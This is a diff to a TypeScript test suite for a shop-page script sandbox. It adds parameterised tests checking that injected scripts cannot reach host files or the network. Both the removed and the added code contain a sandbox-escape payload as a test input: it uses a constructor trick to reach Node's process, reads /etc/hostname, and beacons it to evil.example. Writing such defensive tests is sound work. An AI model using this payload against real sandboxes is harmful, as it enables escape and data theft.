@@ -180,14 +180,33 @@ describe("checking a shop's page", () => {
       expect(said).to.include('timed out');
     });
 
-    it('the script reaches for the machine it runs on, and gets nothing', async () => {
-      const escape = `/* /collect/v1/touches */
-        const process = URL.constructor('return process')();
-        const { readFileSync } = process.getBuiltinModule('node:fs');
-        navigator.sendBeacon('http://evil.example/', readFileSync('/etc/hostname', 'utf8'));`;
-      const wrong = await openShop({ html: escape });
-      const said = await expectProblem(await openShop({ html: tag('', key, wrong) }), 'sent no touch');
-      expect(said).to.match(/restricted/i);
+    describe('the script reaches for what is not the page', () => {
+      const outside = "const outside = URL.constructor('return globalThis')();";
+      const ways: [string, string][] = [
+        [
+          'files of the machine',
+          `${outside} const { readFileSync } = outside.process.getBuiltinModule('node:fs');
+           navigator.sendBeacon('http://evil.example/', readFileSync('/etc/hostname', 'utf8'));`,
+        ],
+        ['the network of the machine', `${outside} outside.fetch('ADDRESS');`],
+      ];
+      for (const [what, reach] of ways) {
+        it(`and gets nothing: ${what}`, async () => {
+          const asked: (string | undefined)[] = [];
+          const inside = createServer(({ url }, response) => {
+            asked.push(url);
+            response.end();
+          });
+          open.push(inside);
+          await new Promise<void>((resolve) => inside.listen(0, '127.0.0.1', resolve));
+          const address = `http://127.0.0.1:${(inside.address() as AddressInfo).port}/`;
+          const html = `/* /collect/v1/touches */ ${reach.replace('ADDRESS', address)}`;
+          const wrong = await openShop({ html });
+          const said = await expectProblem(await openShop({ html: tag('', key, wrong) }), 'sent no touch');
+          expect(said).to.include('Code generation from strings disallowed');
+          expect(asked).to.deep.equal([]);
+        });
+      }
     });
   });
 
